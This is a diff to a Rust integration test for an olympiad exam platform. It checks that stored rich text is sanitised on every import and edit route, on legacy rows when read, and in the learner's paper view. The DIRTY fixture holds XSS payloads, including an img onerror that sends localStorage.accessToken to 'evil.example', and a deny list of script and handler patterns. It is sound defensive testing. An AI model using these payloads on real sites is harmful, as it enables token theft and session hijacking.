@@ -1,6 +1,7 @@
 //! Every stored rich text passes the one sanitiser, whatever route it came in by: the question-bank
-//! import, the module and question editors and the olympiad's settings; and text stored before (a
-//! row written by an older version) is sanitised as it is read.
+//! import (JSON and CSV), the module and question editors and the olympiad's settings; and text
+//! stored before (a row written by an older version) is sanitised as it is read, by staff and by
+//! the learner writing the paper.
 
 #![allow(clippy::unwrap_used)] // helpers of a test: a panic is the failure, with its cause
 
@@ -11,12 +12,22 @@ use actix_web::test::{init_service, TestRequest};
 use common::*;
 use diesel::prelude::*;
 use olympiad_domain::Role;
-use olympiad_persistence::schema::{olympiads, question_modules};
+use olympiad_persistence::schema::{
+    learners, olympiads, participants, question_modules, questions, school_participants, schools,
+};
 use serde_json::{json, Value};
 
-const DIRTY: &str = r#"<p onclick="steal()">Read <b>carefully</b></p><img src=x onerror="fetch('//evil.example/'+localStorage.accessToken)"><script>alert(1)</script><a href="javascript:alert(1)">here</a>"#;
+/// A script, event handlers, a `javascript:` link, an outside image, an SVG and a frame, around
+/// harmless formatting and a picture of the olympiad's own.
+const DIRTY: &str = concat!(
+    r#"<p onclick="steal()">Read <b>carefully</b></p>"#,
+    r#"<img src=x onerror="fetch('//evil.example/'+localStorage.accessToken)">"#,
+    r#"<script>alert(1)</script><a href="javascript:alert(1)">here</a>"#,
+    r#"<svg onload="alert(1)"><circle r="1"/></svg><iframe src="javascript:alert(1)"></iframe>"#,
+    r#"<img src="https://evil.example/pixel.png"><img src="/api/attachment/7" alt="map">"#,
+);
 
-/// No script, handler or outside address survived, and the formatting did.
+/// No script, handler, link or outside address survived, and the formatting did.
 fn assert_clean(text: &Value) {
     let text = text
         .as_str()
@@ -25,16 +36,27 @@ fn assert_clean(text: &Value) {
         "<script",
         "onerror",
         "onclick",
+        "onload",
         "javascript:",
         "evil.example",
         "alert(",
+        "<a ",
+        "<svg",
+        "<iframe",
     ] {
         assert!(!text.contains(bad), "{bad} survived in {text}");
     }
-    assert!(
-        text.contains("<b>carefully</b>"),
-        "the formatting went too: {text}"
-    );
+    for kept in [
+        "<p>Read <b>carefully</b></p>",
+        r#"<img src="/api/attachment/7" alt="map">"#,
+    ] {
+        assert!(text.contains(kept), "the formatting went too: {text}");
+    }
+}
+
+/// The text as one field of a CSV row.
+fn csv_field(text: &str) -> String {
+    format!("\"{}\"", text.replace('"', "\"\""))
 }
 
 #[actix_web::test]
@@ -55,6 +77,7 @@ async fn script_in_rich_text_is_removed_by_every_route_that_stores_it() {
     .await;
     assert_eq!(status, StatusCode::OK);
     let modules = format!("/api/question-module?olympiadId={geography}");
+    let questions_of = |module_id: i64| format!("/api/question?questionModuleId={module_id}");
 
     // The question bank's import: the module's instructions and the question's texts.
     let bank = json!({ "format": "olympiad-question-bank", "version": 1, "modules": [{
@@ -91,6 +114,37 @@ async fn script_in_rich_text_is_removed_by_every_route_that_stores_it() {
     assert_clean(&question["explanation"]["en"]);
     assert_clean(&question["options"][0]["text"]["en"]);
 
+    // The CSV import: the stem and the options.
+    let csv = format!(
+        "question,a,b,correct\n{},{},Vaal,a\n",
+        csv_field(DIRTY),
+        csv_field(DIRTY)
+    );
+    let (status, body) = send(
+        &app,
+        with_token(
+            post_json(
+                &format!("/api/olympiad/{geography}/question-bank/csv?confirm=true"),
+                json!({ "moduleTitle": "From a spreadsheet", "csv": csv }),
+            ),
+            &admin,
+        ),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (_, listed) = send(&app, with_token(get(&modules), &admin)).await;
+    let from_csv = listed["data"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|m| m["title"]["en"] == "From a spreadsheet")
+        .unwrap()["id"]
+        .as_i64()
+        .unwrap();
+    let (_, listed) = send(&app, with_token(get(&questions_of(from_csv)), &admin)).await;
+    assert_clean(&listed["data"][0]["content"]["stem"]["en"]);
+    assert_clean(&listed["data"][0]["content"]["options"][0]["text"]["en"]);
+
     // The module editor, creating and changing.
     let (status, created) = send(&app, with_token(post_json("/api/question-module?confirm=true", json!({ "olympiadId": geography, "title": { "en": "Maps" }, "instructions": { "en": DIRTY } })), &admin)).await;
     assert_eq!(status, StatusCode::OK, "{created}");
@@ -109,11 +163,31 @@ async fn script_in_rich_text_is_removed_by_every_route_that_stores_it() {
     assert_eq!(status, StatusCode::OK, "{changed}");
     assert_clean(&changed["data"]["instructions"]["af"]);
 
-    // The question editor.
+    // The question editor, creating and changing: stem, options and explanation.
     let (status, question) = send(&app, with_token(post_json("/api/question?confirm=true", json!({ "moduleId": module_id, "kind": "singleChoice", "marks": 1, "difficulty": 1,
         "content": { "stem": { "en": DIRTY }, "options": [{ "key": "a", "text": { "en": "Orange" } }, { "key": "b", "text": { "en": "Vaal" } }], "correct": ["a"] } })), &admin)).await;
     assert_eq!(status, StatusCode::OK, "{question}");
     assert_clean(&question["data"]["content"]["stem"]["en"]);
+    let question_id = question["data"]["id"].as_i64().unwrap();
+    let (status, changed) = send(
+        &app,
+        with_token(
+            TestRequest::put()
+                .uri(&format!("/api/question/{question_id}?confirm=true"))
+                .set_json(json!({ "kind": "singleChoice", "marks": 1, "difficulty": 1,
+                    "content": { "stem": { "af": DIRTY }, "explanation": { "en": DIRTY },
+                        "options": [{ "key": "a", "text": { "en": DIRTY } }, { "key": "b", "text": { "en": "Vaal" } }],
+                        "correct": ["a"] } })),
+            &admin,
+        ),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{changed}");
+    let (_, listed) = send(&app, with_token(get(&questions_of(module_id)), &admin)).await;
+    let content = &listed["data"][0]["content"];
+    assert_clean(&content["stem"]["af"]);
+    assert_clean(&content["explanation"]["en"]);
+    assert_clean(&content["options"][0]["text"]["en"]);
 
     // The olympiad's settings: the learner's instructions and the declaration.
     let settings = json!({ "title": "Geography", "year": 2026, "kind": "schools", "durationMinutes": 45, "grades": [10], "languages": ["en"],
@@ -131,11 +205,21 @@ async fn script_in_rich_text_is_removed_by_every_route_that_stores_it() {
     assert_eq!(status, StatusCode::OK, "{saved}");
     assert_clean(&saved["data"]["instructions"]["en"]);
     assert_clean(&saved["data"]["declaration"]["en"]);
+    let olympiad_path = format!("/api/olympiad?olympiadId={geography}");
+    let (_, olympiad) = send(&app, with_token(get(&olympiad_path), &admin)).await;
+    assert_clean(&olympiad["data"]["instructions"]["en"]);
 
     // Text written before the sanitiser stood at the storage's door is sanitised as it is read.
     let raw = json!({ "en": DIRTY }).to_string();
+    let raw_content = json!({ "stem": { "en": DIRTY }, "explanation": { "en": DIRTY },
+        "options": [{ "key": "a", "text": { "en": DIRTY } }], "correct": ["a"] })
+    .to_string();
     diesel::update(question_modules::table.find(module_id))
         .set(question_modules::instructions.eq(&raw))
+        .execute(&mut fx.db.conn())
+        .unwrap();
+    diesel::update(questions::table.find(question_id))
+        .set(questions::content.eq(&raw_content))
         .execute(&mut fx.db.conn())
         .unwrap();
     diesel::update(olympiads::table.find(geography))
@@ -151,13 +235,185 @@ async fn script_in_rich_text_is_removed_by_every_route_that_stores_it() {
         .find(|m| m["id"] == module_id)
         .unwrap();
     assert_clean(&old["instructions"]["en"]);
-    let (_, olympiad) = send(
+    let (_, listed) = send(&app, with_token(get(&questions_of(module_id)), &admin)).await;
+    let content = &listed["data"][0]["content"];
+    assert_clean(&content["stem"]["en"]);
+    assert_clean(&content["explanation"]["en"]);
+    assert_clean(&content["options"][0]["text"]["en"]);
+    let (_, olympiad) = send(&app, with_token(get(&olympiad_path), &admin)).await;
+    assert_clean(&olympiad["data"]["declaration"]["en"]);
+
+    // The admin's preview of the whole paper reads the same rows.
+    let (status, paper) = send(
         &app,
         with_token(
-            get(&format!("/api/olympiad?olympiadId={geography}")),
+            TestRequest::post().uri(&format!("/api/olympiad/modules/{geography}")),
             &admin,
         ),
     )
     .await;
-    assert_clean(&olympiad["data"]["declaration"]["en"]);
+    assert_eq!(status, StatusCode::OK, "{paper}");
+    let previewed = paper["data"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|m| m["module"]["id"] == module_id)
+        .unwrap();
+    assert_clean(&previewed["module"]["instructions"]["en"]);
+    assert_clean(&previewed["questions"][0]["content"]["stem"]["en"]);
+}
+
+#[actix_web::test]
+async fn a_learner_is_shown_only_sanitised_text_even_from_rows_written_before() {
+    let fx = Fixture::new();
+    let geography = fx.olympiad("geography").id;
+    let raw = json!({ "en": DIRTY }).to_string();
+    let mut conn = fx.db.conn();
+    diesel::update(olympiads::table.find(geography))
+        .set((
+            olympiads::languages.eq(r#"["en"]"#),
+            olympiads::duration_minutes.eq(60),
+            olympiads::instructions.eq(&raw),
+            olympiads::declaration.eq(&raw),
+        ))
+        .execute(&mut conn)
+        .unwrap();
+    let module_id: i64 = diesel::insert_into(question_modules::table)
+        .values((
+            question_modules::olympiad_id.eq(geography),
+            question_modules::position.eq(1),
+            question_modules::title.eq(r#"{"en":"Rivers"}"#),
+            question_modules::instructions.eq(&raw),
+            question_modules::created_at.eq(olympiad_persistence::now()),
+            question_modules::updated_at.eq(olympiad_persistence::now()),
+        ))
+        .returning(question_modules::id)
+        .get_result(&mut conn)
+        .unwrap();
+    let content = json!({ "stem": { "en": DIRTY },
+        "options": [{ "key": "a", "text": { "en": DIRTY } }, { "key": "b", "text": { "en": "Vaal" } }],
+        "correct": ["a"] });
+    diesel::insert_into(questions::table)
+        .values((
+            questions::module_id.eq(module_id),
+            questions::position.eq(1),
+            questions::kind.eq("singleChoice"),
+            questions::content.eq(content.to_string()),
+            questions::marks.eq(1),
+            questions::difficulty.eq(3),
+            questions::created_at.eq(olympiad_persistence::now()),
+            questions::updated_at.eq(olympiad_persistence::now()),
+        ))
+        .execute(&mut conn)
+        .unwrap();
+    drop(conn);
+    let learner = fx.token_for(enter_learner(&fx, geography));
+    let app = init_service(olympiad_http::app(fx.state.clone())).await;
+
+    // Before writing: the olympiad's instructions and the declaration.
+    let (status, body) = send(&app, with_token(get("/api/sitting"), &learner)).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    assert_clean(&body["data"]["olympiad"]["instructions"]["en"]);
+    assert_clean(&body["data"]["olympiad"]["declaration"]["en"]);
+
+    // Writing: the module's instructions, the stem and the options.
+    let key = start(&app, &learner).await;
+    let (status, body) = send(
+        &app,
+        with_token(get("/api/sitting/paper"), &learner).insert_header(("X-Attempt-Key", key)),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let module = &body["data"]["modules"][0];
+    assert_clean(&module["instructions"]);
+    assert_clean(&module["questions"][0]["stem"]);
+    let option = module["questions"][0]["options"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|o| o["key"] == "a")
+        .unwrap();
+    assert_clean(&option["text"]);
+}
+
+/// A school entered in the olympiad with one learner who may sign in; answers the learner's user.
+fn enter_learner(fx: &Fixture, olympiad_id: i64) -> i64 {
+    let mut conn = fx.db.conn();
+    let school_id: i64 = diesel::insert_into(schools::table)
+        .values((
+            schools::name.eq("Hoërskool Ons Dorp"),
+            schools::province.eq("Limpopo"),
+        ))
+        .returning(schools::id)
+        .get_result(&mut conn)
+        .unwrap();
+    let entry: i64 = diesel::insert_into(school_participants::table)
+        .values((
+            school_participants::olympiad_id.eq(olympiad_id),
+            school_participants::school_id.eq(school_id),
+        ))
+        .returning(school_participants::id)
+        .get_result(&mut conn)
+        .unwrap();
+    let learner_id: i64 = diesel::insert_into(learners::table)
+        .values((
+            learners::school_id.eq(school_id),
+            learners::first_name.eq("Thabo"),
+            learners::last_name.eq("Mokoena"),
+            learners::grade.eq(10),
+        ))
+        .returning(learners::id)
+        .get_result(&mut conn)
+        .unwrap();
+    drop(conn);
+    let user_id = fx.user("thabo.m", Role::Learner, Some("geography"));
+    diesel::insert_into(participants::table)
+        .values((
+            participants::olympiad_id.eq(olympiad_id),
+            participants::learner_id.eq(learner_id),
+            participants::school_participant_id.eq(entry),
+            participants::user_id.eq(user_id),
+        ))
+        .execute(&mut fx.db.conn())
+        .unwrap();
+    user_id
+}
+
+/// The declaration, the recovery code, the details and the start; answers the device's key.
+async fn start<S, B>(app: &S, token: &str) -> String
+where
+    S: actix_web::dev::Service<
+        actix_http::Request,
+        Response = actix_web::dev::ServiceResponse<B>,
+        Error = actix_web::Error,
+    >,
+    B: actix_web::body::MessageBody,
+{
+    let (status, body) = send(
+        app,
+        with_token(
+            post_json("/api/sitting/declaration", json!({ "accepted": true })),
+            token,
+        ),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let key = body["data"]["attemptKey"].as_str().unwrap().to_owned();
+    let details =
+        json!({ "firstName": "Thabo", "lastName": "Mokoena", "grade": 10, "language": "en" });
+    for request in [
+        TestRequest::post().uri("/api/sitting/recovery-code"),
+        TestRequest::put()
+            .uri("/api/sitting/details")
+            .set_json(details),
+        TestRequest::post().uri("/api/sitting/start"),
+    ] {
+        let (status, body) = send(
+            app,
+            with_token(request, token).insert_header(("X-Attempt-Key", key.clone())),
+        )
+        .await;
+        assert_eq!(status, StatusCode::OK, "{body}");
+    }
+    key
 }
